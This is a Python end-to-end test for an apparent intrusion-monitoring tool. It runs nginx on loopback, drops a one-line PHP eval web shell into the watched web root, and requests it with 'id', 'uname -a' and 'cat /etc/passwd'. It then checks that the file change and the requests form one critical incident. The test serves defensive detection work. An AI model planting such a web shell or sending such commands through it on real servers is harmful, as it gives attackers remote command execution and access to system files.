"""End to end with real processes: nginx serves a watched web root on loopback, a web shell is dropped in
it and requested; the collector shows one incident holding the FIM change and the requests."""

from __future__ import annotations

import importlib.util
import os
import shutil
import subprocess
from pathlib import Path

import pytest
import requests

pytestmark = pytest.mark.slow
NGINX = shutil.which("nginx") or ("/usr/sbin/nginx" if os.path.exists("/usr/sbin/nginx") else None)

_spec = importlib.util.spec_from_file_location(
    "e2e_conftest", os.path.join(os.path.dirname(__file__), "..", "e2e", "conftest.py"))
assert _spec is not None and _spec.loader is not None
e2e = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(e2e)


@pytest.fixture
def suite(tmp_path):
    running = e2e.Suite(tmp_path)
    yield running
    running.stop()


@pytest.fixture
def nginx(tmp_path):
    """nginx on a free loopback port serving tmp/www, logging in the default combined format."""
    if NGINX is None:
        pytest.skip("nginx is not installed (apt-get install nginx-light; scripts/system-deps.sh does it)")
    www, port = tmp_path / "www", e2e.free_port()
    www.mkdir()
    (www / "index.html").write_text("<h1>Ministry of Commerce</h1>\n")
    conf = tmp_path / "nginx.conf"
    user = "user root;\n" if os.geteuid() == 0 else ""   # workers must read the test's private tmp folder
    conf.write_text(f"""{user}daemon off; worker_processes 1; pid {tmp_path}/nginx.pid; error_log {tmp_path}/error.log;
events {{ worker_connections 64; }}
http {{
  access_log {tmp_path}/access.log combined;
  client_body_temp_path {tmp_path}/body; proxy_temp_path {tmp_path}/proxy; fastcgi_temp_path {tmp_path}/fcgi;
  uwsgi_temp_path {tmp_path}/uwsgi; scgi_temp_path {tmp_path}/scgi;
  server {{ listen 127.0.0.1:{port}; root {www}; }}
}}
""")
    proc = subprocess.Popen([NGINX, "-c", str(conf), "-p", str(tmp_path)], stderr=subprocess.PIPE)
    url = f"http://127.0.0.1:{port}"
    up = e2e.wait_for(lambda: _get(url + "/") == 200, 20)
    if not up:
        proc.kill()
        pytest.fail(f"nginx did not start: {proc.stderr.read().decode()[-500:] if proc.stderr else ''}")
    yield www, url, tmp_path / "access.log"
    proc.terminate()
    proc.wait(10)


def _get(url: str) -> int:
    try:
        return requests.get(url, timeout=2).status_code
    except requests.RequestException:
        return 0


def open_incidents(suite) -> list[dict]:
    token = (Path(suite.work) / "c" / "admin-token").read_text().strip()
    try:
        rows = requests.get(f"{suite.url}/api/v1/incidents", headers={"Authorization": f"Bearer {token}"},
                            timeout=5).json()["incidents"]
    except (requests.RequestException, ValueError, KeyError):
        return []
    return [r for r in rows if r["status"] != "resolved"]


def test_web_shell_dropped_then_requested_is_one_incident(suite, nginx) -> None:
    www, url, access_log = nginx
    suite.configure()
    suite.start_collector()
    suite.start_agent("web-01", fim={"paths": [str(www)]},
                      logs={"access": [{"path": str(access_log), "root": str(www)}], "poll_interval": "100ms",
                            "update_interval": "1s"})
    assert e2e.wait_for(lambda: suite.metric("govwatch_fim_watched_files", agent="web-01") >= 1, 60), \
        suite.log_tail("web-01")
    (www / "wp-cache.php").write_text("<?php @eval($_REQUEST['c']); ?>\n")
    assert e2e.wait_for(lambda: any(i["kind"] == "fim" for i in open_incidents(suite)), 60), suite.log_tail("web-01")
    for command in ("id", "uname -a", "cat /etc/passwd"):
        assert _get(f"{url}/wp-cache.php?c={command}") == 200

    def joined() -> list[dict]:
        rows = open_incidents(suite)
        return [i for i in rows if i["evidence"].get("requests")
                and sum(len(r["evidence"]["sample"]) for r in i["evidence"]["requests"]) >= 3]

    story = e2e.wait_for(joined, 60)
    assert story, f"incidents: {open_incidents(suite)}; agent log: {suite.log_tail('web-01')}"
    incident = story[0]
    assert len(open_incidents(suite)) == 1, open_incidents(suite)
    assert incident["severity"] == "critical"
    assert [f["path"] for f in incident["evidence"]["fim"]] == [str(www / "wp-cache.php")]
    targets = [s["target"] for r in incident["evidence"]["requests"] for s in r["evidence"]["sample"]]
    assert targets == ["/wp-cache.php?c=id", "/wp-cache.php?c=uname%20-a", "/wp-cache.php?c=cat%20/etc/passwd"]
    assert all(r["src"] == "127.0.0.1" for r in incident["evidence"]["requests"])
